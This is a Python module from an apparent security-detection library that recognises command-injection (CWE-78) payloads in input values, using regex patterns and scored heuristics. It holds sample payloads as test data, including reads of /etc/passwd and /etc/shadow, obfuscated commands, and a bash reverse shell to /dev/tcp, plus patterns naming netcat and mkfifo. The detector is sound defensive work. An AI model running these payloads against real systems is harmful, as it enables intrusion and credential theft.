"""Command injection: a value that a shell would read as a command of its own.

CWE-78. A command counts when it stands where a shell begins one (the value's start, after `;`, `|`, `&`, a new line,
inside a substitution) and is called like one (options, paths, redirections), or when only a shell writes so
(`$(…)`, here strings, `/dev/tcp`, loops of cmd.exe). Sources: POSIX.1-2017, Shell Command Language; the GNU Bash
manual; Microsoft's command reference.
"""

import re

from delicti.detect import shell_calls
from delicti.detect.contexts import ANYWHERE, CERTAIN, POSSIBLE, PROBABLE, STRONG, WEAK, Context, Place, Verdict, whole
from delicti.detect.shell_words import BRIEF, CLIENTS, ENGLISH, NOUNS, PLAIN, TOOLS, known, plain

CLASS, TECHNIQUE, WEAKNESS = "rce", "T1059", "CWE-78"
CONTEXTS = ANYWHERE
_NAMES = "(?:" + "|".join(sorted(re.escape(word) for word in PLAIN | ENGLISH)) + ")"
ANCHORS = (
    rf"(?:[;|`\n\r&]|\$\(|[<>]\()[\s@(){{}}'\"]*(?:[\w./\\~-]*[/\\])?{_NAMES}\b",
    rf"^[\s(@!+]*(?:[\w./\\~-]*[/\\])?{_NAMES}(?:\.exe)?[\s<>|;&$`+]",
    rf"^\s*['\"]{_NAMES}['\"]",
    r"\$\(|\$\{|\$\[|[<>]\(|`[^`]{1,80}`",
    whole("|".join(sorted(re.escape(word) for word in PLAIN))),
    r"<<<|``|\$\{?shell|>\s*&|>\s*/|/dev/(?:tcp|udp)",
    r"(?:usr/(?:local/)?|[\s'\"(;|&`=,\x1e\x1f]/|^\.{0,2}/?)s?bin/",
    r"(?:^|[&|;\s\"(])(?:if|for)\s.{1,80}(?:==|%|\b(?:equ|neq|lss|leq|gtr|geq|exist|errorlevel|defined|do)\b)",
    r"(?:system|exec|popen|passthru|spawn|proc_open|wscript\.shell)\s*[('\"]|qx\{|@\{\s*\[",
    r"\(\s{0,4}\)\s{0,4}\{",
    r"/\?{2}|/\?\w\?|/\w{1,6}[?*]+[/\s]|/\w*[\[*]|\{\w*,|[a-z]\[[a-z]\]",
    r"[\w/]['\"\\$^][\w'\"\\$@*?!(-]|['\"]{2}\w|[\w/]\\\w",
    r"^[~!][-+\d!]",
    r"[;&\s]\s*\$[a-z_@*?!]|=[^;&]{1,40}[;&].{1,200}\$",
    r"%[a-z]{3,20}%",
    r"alias\s",
    r"\bnc\s|mkfifo",
    r"[;|&]\s*(?:\.\s+)?(?:\.{1,2}/|/(?:tmp|usr|var|opt|home|dev|root)/|\$\d)",
    r"[;|&]\s*[\w.-]{1,40}\.(?:exe|bat|cmd|ps1|vbs|sh)\b",
    r"%\w{2,30}:~",
    r";\s*(?:do|then)\s|\$\{?ifs\b|>&[12]|>\s*/dev/null|\|\s*'[^']{1,120}'!",
    *shell_calls.ANCHORS,
)
HITS = (
    ";id",
    "127.0.0.1; cat /etc/passwd",
    "| whoami",
    "$(sleep 5)",
    "`uname -a`",
    "a;ls${IFS}-la",
    "& ping -n 10 127.0.0.1 &",
    "cat /etc/passwd",
    "w'h'oami;c''at /et''c/passwd",
    "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
    "/bin/cat /etc/shadow",
    "|dir c:\\",
)
LOOKALIKES = (
    "AT&T",
    "salt & pepper; cat food",
    "find your date",
    "R&D | research",
    "make time for sleep",
    "$5 (about 4 euro)",
    "price > 5 && price < 10",
    "net income; top line",
    "Tom; who is he",
    "a|b|c",
    "use `code` here",
    "echo park",
)

_START = re.compile(
    r"(?P<mark>;|\|\|?|&&?|\n|\r|`|\$\(|[<>]\(|\$\{`)[\s@(){}'\"]*(?:\$[a-z_@*!?]\w{0,10}\s+){0,3}(?P<rest>[^\s].*)",
    re.DOTALL | re.IGNORECASE,
)
_WORD = re.compile(r"[^\s;|&<>()`'\"{}]+")
_FIRST = re.compile(r"^[\s'\"(@!+]*(?P<word>[\w./\\~?*\[\]:$-]+)(?P<after>.{0,400})", re.DOTALL)
_ARGUED = re.compile(
    (
        r"^['\"]?(?:\s+|<+|>+|/(?=[a-z?]\b))(?:-{1,2}\w|/(?:[\w?*\[\]/]|\s|$)|[\w-]+(?:\.[\w-]+)+\b|(?:user|users|"
        r"view|localgroup|group|share|accounts|start|stop|use)\s*(?:$|[&|;/])|\.{1,2}/|~/|\$|[<>|;&]|[a-z]:(?:[\\/]|"
        r"\s*$)|%\w*%?|https?:|\d{1,3}(?:\.\d{1,3}){3}|[\w./*-]+\.(?:sh|py|php|txt|log|exe|ps1|conf|pl|zst|gz)\b|\*|"
        r"\d+\s*(?:$|[;|&#])|'[^']+'|\"[^\"]+\"|[$(])"
    ),
    re.IGNORECASE,
)
_STANDS = re.compile(r"^['\"`)]?\s*(?:$|[;|&#)`\n]|\}|[<>]{1,2}(?!\s)|\s[<>]{1,2}\s*[/.&$\w])")
_GRAVE = re.compile(
    r"%(?:windir|systemroot)%|/(?:etc|proc|root|dev/tcp|var/log)/|c:[\\/]+windows|\.ssh/|/bin/\w*sh\b", re.IGNORECASE
)
_REVERSE = re.compile(
    (
        r"/dev/(?:tcp|udp)/|>&\s*/dev|\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*\S+.*?(?:-[ec]\b|-\w*l\w*p|\d{2,5})|mkfifo\s|"
        r"bash\s+-i\b|0>&1"
    ),
    re.IGNORECASE,
)
_SUBST = re.compile(
    r"\$\((?!\()\s*(?P<inner>[^)]*)\)?|`(?P<tick>[^`]{1,200})`|\$\(\((?P<sum>[^)]*)\)\)|\$\[(?P<old>[^\]]*)\]|"
    r"[<>]\((?P<proc>[^)]*)\)"
)
_FORK = re.compile(r"[\w.:]+\s*\(\s*\)\s*\{[^}]*[|&][^}]*\}\s*;?")
_CMD_FOR = re.compile(
    (
        r"(?:^|[&|;\"\s])\s*for\s+(?:/[dflr]\s+)*(?:\S{1,80}\s+|"
        r"\"[^\"]*\"\s+)?%{0,2}\S{1,20}\s+in\s*\([^)]*\)?\s*(?:do\b|\)\s*do\b)"
    ),
    re.IGNORECASE,
)
_CMD_IF = re.compile(
    r"(?:^|[&|;\"(])\s*if\s+(?:/i\s+)?(?:not\s+)?(?:/i\s+)?(?:(?:exist|defined|errorlevel|cmdextversion)\s+\S+\s+\S|"
    r"\S+(?:\s\S+)?\s*(?:={2,3}|\b(?:equ|neq|lss|leq|gtr|geq)\b)\s*\S+\s+\S)",
    re.IGNORECASE,
)
_GLOBBED = re.compile(r"/(?:[\w?*\[\]!,-]*[?*\[][\w?*\[\]!,/-]*)/?(?:[\w?*\[\]!-]*[?*\]][\w?*\]\[!-]*)?")
_PATHED = re.compile(r"(?:^|[\s'\"(;|&`=,]|\\n)/(?:usr/(?:local/)?)?s?bin/[\w.\-]+", re.IGNORECASE)
_PERL = re.compile(r"@\{\s*\[[^\]]*\]?|\bqx\s*\{")
_CALLED = re.compile(
    r"(?:^|[\W_])(?:system|shell_exec|passthru|popen|proc_open|exec|Process\.spawn|os\.(?:system|popen)|"
    r"subprocess\.\w+|Runtime\.exec|IO\.popen|Kernel\.\w+|"
    r"wscript\.shell)\s*(?:\(|\s)\s*['\"](?P<command>[^'\"]{1,200})",
    re.IGNORECASE,
)
_HISTORY = re.compile(r"^(?:~[+-]\d*|!(?:!|-?\d+(?:!-?\d+)*))$|^~\d$")
_ALIAS = re.compile(r"^alias\s+(?:[-+]\w+\s*(?:\+\s*)?)*['\"]?[\w.-]+['\"]?=\S")
_PROSE = re.compile(r"\b[A-Za-z]{3,}[,.]? [a-z]{2,} [a-z]{2,}\b")
_NAMED = re.compile(
    r"^(?:cmd|command|exec|execute|shell|run|system|ping|code|args?|process|daemon|cli)$", re.IGNORECASE
)
_BRACED = re.compile(r"^\{([\w,./$'\"#* -]{1,120})\}$")
_SHELL_VARIABLE = re.compile(r"\$\{?SHELL\}?\s+-c")
_TALKED = re.compile(r"(?:^|\s)[a-z]{2,}(?:\s|$)", re.IGNORECASE)
_ASSIGNED = re.compile(r"(?:^|[;&\s])([A-Za-z_]\w{0,10})=(\S{1,40}?)\s*(?:;|&&)\s*.*\$\{?\1\b", re.DOTALL)


def judge(value: str, context: Context) -> Verdict | None:
    """The strongest reading as a command line, once as sent and once as a shell would see it."""
    if context.structured:
        return None  # its parts are judged on their own
    best = _read(value, context, hidden=False)
    if (
        best is not None
        and STRONG > best.confidence >= WEAK
        and _NAMED.match(context.name)
        and known(value.split(maxsplit=1)[0].strip("'\"")) in PLAIN
        and context.place is not Place.NAME
    ):
        best = best._replace(confidence=PROBABLE, why=f"{best.why} The parameter's name says that it is run.")
    if (
        context.place in (Place.AGENT, Place.REFERRER)
        and not context.name
        and (best is None or best.confidence < POSSIBLE)
    ):
        best = _stray(value) or best
    seen = plain(value)
    if "```" not in value and seen != value and (best is None or best.confidence < STRONG):
        if (
            len(seen) > 2
            and len(re.findall(r"['\"^]|\\(?=\w)|\$[@*!]", value)) > 1
            and seen.strip().lower() in PLAIN - NOUNS
        ):
            return Verdict(PROBABLE, value[:300], _why(seen.strip().lower()))
        other = _read(seen, context, hidden=True)
        if other is not None and (best is None or other.confidence > best.confidence):
            return other
    return best


def _read(value: str, context: Context, *, hidden: bool) -> Verdict | None:
    best: Verdict | None = None
    for reading in (_only_shells, _separated, _first, _windows, _called, _told):
        found = reading(value, context, hidden)
        if found is not None and (best is None or found.confidence > best.confidence):
            best = found
            if best.confidence >= CERTAIN:
                break
    return best


def _why(name: str) -> str:
    return f"A shell would run the command {name}."


def _separated(value: str, context: Context, hidden: bool) -> Verdict | None:
    best: Verdict | None = None
    at = 0
    for _ in range(12):
        match = _START.search(value, at)
        if match is None:
            break
        at = match.start("rest")
        mark = match["mark"]
        rest = match["rest"]
        word = _WORD.match(rest)
        if word is None:
            at += 1
            continue
        name = known(word[0].rstrip(",.:")) if word[0].rstrip(".,:") == word[0] else None
        if name is None:
            continue
        after = rest[word.end() :]
        sure = _sure(name, word[0], after, mark, value[: match.start()], hidden, context)
        if sure and (best is None or sure > best.confidence):
            if sure >= PROBABLE and _GRAVE.search(after):
                sure = CERTAIN
            best = Verdict(sure, value[match.start() :][:300], _why(name))
    return best


def _sure(name: str, word: str, after: str, mark: str, before: str, hidden: bool, context: Context) -> float:  # noqa: C901
    if context.place is Place.REFERRER and mark == "&" and "?" in before:
        return 0.0
    if context.place is Place.AGENT and mark == ";" and before.count("(") > before.count(")") and "/" not in word:
        return 0.0
    everyday = name in ENGLISH and name not in PLAIN
    stands = _STANDS.match(after) is not None
    argued = _ARGUED.match(after) is not None and not (everyday and re.match(r"\s*[|&;]", after))
    if "/" in word or word.endswith((".exe",)):
        return CERTAIN
    if mark == "`" and (
        before.endswith("``")
        or (name in TOOLS and "://" not in after)
        or _quoted_inline(before, after)
        or re.search(r"\b(?:from|where|select|order by|group by|alter table)\b", before, re.IGNORECASE)
    ):
        return WEAK
    if mark in ("`", "$(", "<(", ">("):
        if mark == "`" and before.strip() and not argued and everyday:
            return WEAK
        return STRONG if argued or not everyday or stands else PROBABLE
    if argued:
        return STRONG if not everyday or before == "" or hidden else PROBABLE
    if stands and name in NOUNS and re.search(r"[a-z]{2,}\s+$", before, re.IGNORECASE):
        return WEAK
    if everyday and before == "" and mark in ("&", "|") and name not in BRIEF and _piped(after):
        return WEAK
    short = mark in (";", "|", "||", "&", "&&") and len(after.split()) < 4
    if short and name in BRIEF and re.fullmatch(r"(?=\W|\d|\Z)[\w.:'\")\]}-]{0,40}", before):
        return POSSIBLE
    if stands:
        if everyday:
            return (
                POSSIBLE
                if not before.strip()
                or (
                    re.fullmatch(r"[\w.\-]{0,15}\)?|.*['\")\]}]\s*", before, re.DOTALL)
                    and mark != "|"
                    and not before.isalpha()
                )
                else WEAK
            )
        if mark in ("|", "&", ";") and re.search(r"\w\s*[|&;]\s*\w+\s*[|&;]", before):
            return WEAK
        return STRONG if not before.strip() or mark not in ("|", ";") or not re.search(r" \w+$", before) else PROBABLE
    if hidden and not everyday:
        return PROBABLE
    if not before.strip() and mark != "\n":
        return PROBABLE if not everyday else WEAK
    return (
        WEAK
        if everyday or _PROSE.search(before + mark + word + after)
        else POSSIBLE
        if not re.match(r"\s+[a-z]{3,}\b", after)
        else WEAK
    )


def _first(value: str, context: Context, hidden: bool) -> Verdict | None:  # noqa: C901
    match = _FIRST.match(value)
    if match is None:
        return None
    word, after = match["word"], match["after"]
    quoted = value.lstrip()[:1] in "'\"" and re.match(r"['\"]", after) is not None
    if context.place is Place.PATH:
        return None
    name = known(word)
    if name is None:
        return None
    shown = value[:300]
    everyday = name in ENGLISH and name not in PLAIN
    if "/" in word and re.match(r"^[./]*(?:usr/(?:local/)?)?s?bin/", word):
        return Verdict(WEAK if re.match(r"(?:\s+[a-z]{3,}){2,}\s*$", after) else STRONG, shown, _why(name))
    if "/" in word or "\\" in word:
        return None
    argued = None if re.match(r"\s+\(", after) else _ARGUED.match(after)
    if argued and not _PROSE.search(value):
        strong = re.match(r"['\"]?\s*(?:-|/\w|<|>|\||;|\$|[a-z]:[\\/]|https?:|\.\./)", after, re.IGNORECASE)
        if strong and _GRAVE.search(after):
            return Verdict(CERTAIN, shown, _why(name))
        if everyday:
            return Verdict(
                PROBABLE
                if strong and re.search(r"\s/\w+/|\s-{1,2}\w|\|\s*\w|[a-z]:[\\/]|/dev/", after, re.IGNORECASE)
                else WEAK,
                shown,
                _why(name),
            )
        if (
            _TALKED.search(after)
            and not re.search(r"[;|&$`<>]", after)
            and any(w.isalpha() and known(w) not in PLAIN for w in after.split())
        ):
            return Verdict(WEAK, shown, _why(name))
        return Verdict(PROBABLE if strong else POSSIBLE, shown, _why(name))
    if _STANDS.match(after) and not after.strip("'\"` )"):
        if quoted and not everyday:
            return Verdict(POSSIBLE, shown, _why(name))
        return Verdict(WEAK, shown, _why(name))
    if _STANDS.match(after) and name in PLAIN and len(name) > 1:
        return Verdict(PROBABLE if re.match(r"['\"]?\s*[;|&`]", after) else POSSIBLE, shown, _why(name))
    if hidden and name in PLAIN and not after.startswith("(") and after.strip("'\"` )"):
        return Verdict(PROBABLE, shown, _why(name))
    inner = re.match(r"^\s+(?P<next>[\w./-]+)", after)
    if (
        name in ("time", "nohup", "strace", "sudo", "env", "exec", "xargs", "timeout", "nice", "busybox", "flock")
        and inner
        and (other := known(inner["next"]))
        and other in PLAIN
        and not _PROSE.search(value)
        and not re.search(r"\s[a-z]{3,}\s*$", after[inner.end() :])
    ):
        return Verdict(POSSIBLE, shown, _why(other))
    return Verdict(WEAK, shown, _why(name)) if name in PLAIN else None


def _only_shells(value: str, context: Context, hidden: bool) -> Verdict | None:  # noqa: ARG001, C901
    if match := _REVERSE.search(value):
        return Verdict(CERTAIN, match[0][:300], "A shell would open a connection back to the sender.")
    if match := _FORK.search(value):
        return Verdict(STRONG, match[0][:300], "A shell would define a function that starts itself without end.")
    if match := _CALLED.search(value):
        return Verdict(
            STRONG if known(match["command"].split(" ")[0]) else POSSIBLE,
            match[0][:300],
            "An interpreter would hand the text to a shell.",
        )
    if match := _PERL.search(value):
        return Verdict(PROBABLE, match[0][:300], "Perl would run what stands in the brackets of a text.")
    if match := _PATHED.search(value):
        talked = _PROSE.search(value[: match.start()]) or re.search(r"(?:\s+[a-z]{3,}){2,}\s*$", value[match.end() :])
        if context.place is not Place.PATH and not talked:
            return Verdict(PROBABLE, match[0].strip()[:300], "It names a program of the server by its path.")
    if (match := _SUBST.search(value)) and not (match["tick"] and _written(value, match)):
        inner = next((part for part in match.groups() if part is not None), "")
        word = re.match(r"\s*[\w./-]+", inner)
        if word and known(word[0].strip()):
            return Verdict(STRONG, match[0][:300], "A shell would run the command in the substitution.")
        if match["sum"] is not None or match["old"] is not None:
            return Verdict(
                PROBABLE if re.search(r"\d\s*[-+*/]\s*\d|\$", inner) and not _talk(value[match.end() :]) else WEAK,
                match[0],
                "A shell would work the sum out.",
            )
        if (
            match[0].startswith("$(")
            and inner.strip()
            and re.match(r"\s*[\w/\\$-][\w./\\$*'\"-]*(?:$|[\s|;<>&])", inner)
        ):
            return Verdict(
                POSSIBLE if not re.search(r"\$\((?:document|this|window|selector|function)\b", value) else WEAK,
                match[0][:300],
                "A shell would run the command in the substitution.",
            )
    if (match := _ASSIGNED.search(value)) and context.place is not Place.REFERRER:
        return Verdict(PROBABLE, match[0][:300], "A shell would put the command together from variables.")
    if "<<<" in value and re.search(r"\w<<<", value):
        return Verdict(PROBABLE, value[:300], "A shell would feed the text to a command.")
    if (match := _BRACED.match(value)) and any(known(part.strip("$'\"")) in PLAIN for part in match[1].split(",")):
        return Verdict(PROBABLE, value[:300], "A shell would unfold the braces to a command.")
    if match := _SHELL_VARIABLE.search(value):
        return Verdict(PROBABLE, match[0], "A shell would start another shell.")
    if "/*" not in value and (match := _GLOBBED.search(value)):
        text = match[0]
        marks = len(re.findall(r"[?*]|\[", text))
        if (
            context.place is not Place.PATH
            and (
                re.match(r"^(?:[\w;|\s]*\s*)?/", value)
                or (value[: match.start()].strip() and known(value[: match.start()].split(maxsplit=1)[0]))
            )
            and "://" not in value
            and (marks >= 3 or re.search(r"/(?:etc|et\*|bi|usr|us|\?+)[/\[?*]|/\[", text, re.IGNORECASE))
            and re.search(r"\w", text)
        ):
            return Verdict(STRONG + 0.01, text[:300], "A shell would fill the pattern in with a file of the server.")
    if _HISTORY.match(value):
        return Verdict(
            POSSIBLE if len(value) > 1 and value[0] == "!" and context.place is Place.VALUE and value == "!!" else WEAK,
            value,
            "A shell would repeat a command.",
        )
    if _ALIAS.match(value):
        return Verdict(PROBABLE, value[:300], "A shell would give a command another name.")
    return None


def _piped(after: str) -> bool:
    """Whether an everyday word goes on with a sign and no argument of its own, as in lists of words."""
    own = re.sub(r"^\s*[|&;].*", "", after, flags=re.DOTALL)
    return after[:1].isspace() and bool(after.strip(" ;|&")) and not _ARGUED.match(own)


def _quoted_inline(before: str, after: str) -> bool:
    """Whether a backtick marks code inside a sentence, as Markdown does, and the code does no harm by itself."""
    code, tick, rest = after.partition("`")
    prose = re.search(r"[a-z]{2,}\s+$", before, re.IGNORECASE) and re.match(r"[,.:]?\s+[a-z]{2,}|[,.:]?\s*$", rest)
    return bool(tick and prose) and not re.search(r"/|://|\d{2,}|\$", code)


def _written(value: str, match: re.Match[str]) -> bool:
    before, after = value[: match.start()], value[match.start() + 1 :]
    name = (match["tick"].split() or [""])[0].lower()
    return "```" in value or (name in TOOLS and "://" not in after) or _quoted_inline(before, after)


def _talk(after: str) -> bool:
    return re.match(r"\s*(?:\s[a-z]{3,}){2,}", after) is not None


def _called(value: str, context: Context, hidden: bool) -> Verdict | None:  # noqa: ARG001
    if context.place is Place.PATH:
        return None
    sure, shown = shell_calls.called_alone(value)
    if sure and _GRAVE.search(shown):
        sure = max(sure, STRONG + 0.02)
    return Verdict(sure, shown, "A shell would run the program with these options.") if sure else None


def _chained(value: str) -> bool:
    """Whether several commands follow each other, and at least one of them is more than a word."""
    parts = [part.split() for part in re.split(r"[;\n]|&&", value[:400])]
    names = [known(part[0]) if part else None for part in parts]
    if len(parts) < 2 or sum(name is not None for name in names) < 2:
        return False
    if any(
        name and any(w[:1] in "/-~" or "/" in w[:-1] for w in part[1:]) for name, part in zip(names, parts, strict=True)
    ):
        return not _PROSE.search(value)
    return names[0] is not None and any(name and "-" in name for name in names[1:])


_RUNS_FILE = re.compile(r"[;|&]\s*(?:\.\s+)?(?:\.{1,2}/[\w.-]|/(?:tmp|usr|var|opt|home|dev|root)/[\w./-]|\$\d\s*$)")
_RUNS_NAMED = re.compile(
    r"(?:^|[\w\s'\"])[;|&]{1,2}\s*[\w.-]{1,40}\.(?:exe|bat|cmd|ps1|vbs|sh)\s*(?:$|[;|&/'\"\s-])", re.IGNORECASE
)
_LOOPS = re.compile(
    r"\bfor\s+\w+\s+in\s[^;]{1,80};\s*do\s|\bwhile\s[^;]{1,60};\s*do\s|\bif\s+\[{1,2}\s[^\]]{1,80}\]{1,2}\s*;?\s*then\b"
)
_BLANK = re.compile(r"\b(\w{2,20})\$\{?IFS\b")
_SENT = re.compile(r"(?:^|\s)[12&]?>&[12]\b|[12&]?>{1,2}\s*/dev/null\b")
_EXCHANGED = re.compile(r"^\s*[=+@-]\s*\(?\w{2,20}\|\s*'[^']{1,120}'!\w", re.IGNORECASE)
_CUT_NAME = re.compile(r"%\w{2,30}:~-?\d")


def _told(value: str, context: Context, hidden: bool) -> Verdict | None:  # noqa: ARG001
    if context.place in (Place.PATH, Place.REFERRER, Place.AGENT):
        return None
    if _chained(value):
        return Verdict(POSSIBLE, value[:300], "A shell would run the commands one after the other.")
    if (match := _RUNS_FILE.search(value)) and not re.search(r"\w\s$|://", value[: match.start()]):
        return Verdict(PROBABLE, value[match.start() :][:300], "A shell would run the file behind the separator.")
    if match := _RUNS_NAMED.search(value):
        return Verdict(PROBABLE, value[match.start() :][:300], "A shell would run the program behind the separator.")
    if match := _LOOPS.search(value):
        return Verdict(STRONG, match[0][:300], "A shell would run a loop or a condition.")
    if (match := _BLANK.search(value)) and known(match[1]):
        return Verdict(PROBABLE, match[0], "A shell would put a blank between the command and what follows.")
    if match := _SENT.search(value):
        return Verdict(PROBABLE, match[0].strip(), "A shell would send what a command says elsewhere.")
    if match := _EXCHANGED.search(value):
        return Verdict(PROBABLE, match[0], "A spreadsheet would start the program that the formula names.")
    if match := _CUT_NAME.search(value):
        return Verdict(PROBABLE, value[:300], "The Windows shell would cut the letters of a command from a variable.")
    return None


_MARKS = re.compile(r"['\"]|\\(?=\w)")
_INSIDE = re.compile(r"\w(?:\^|\$[@*!])\w")
_VERSIONED = re.compile(r"\w/\d|\(|://")


def _stray(value: str) -> Verdict | None:
    """A command line in the place of a browser's name or of an address, where nobody writes one by chance."""
    words = value.strip().strip("'\"").split()
    if not words or len(words) > 6 or _VERSIONED.search(value):
        return None
    word = words[0].rpartition("=")[2].strip("'\"")
    name = known(word)
    if name is None or name not in PLAIN or name in CLIENTS or word != word.lower():
        return None
    return Verdict(POSSIBLE, value[:300], f"{_why(name)} No browser has such a name.")


def _windows(value: str, context: Context, hidden: bool) -> Verdict | None:  # noqa: ARG001
    if match := _CMD_FOR.search(value):
        return Verdict(STRONG, match[0].strip()[:300], "The Windows shell would run a loop.")
    if match := _CMD_IF.search(value):
        told = re.search(
            r"%|\b(?:equ|neq|lss|leq|gtr|geq|errorlevel|exist|defined|cmdextversion)\b|==", match[0], re.IGNORECASE
        )
        if told and not re.search(r"==\s*[\w.]+\s*[:{)]|\(.*\)\s*\{|\bthen\b", value):
            return Verdict(
                PROBABLE if not value.rstrip().endswith("{") else WEAK,
                match[0].strip()[:300],
                "The Windows shell would run a condition.",
            )
    return None
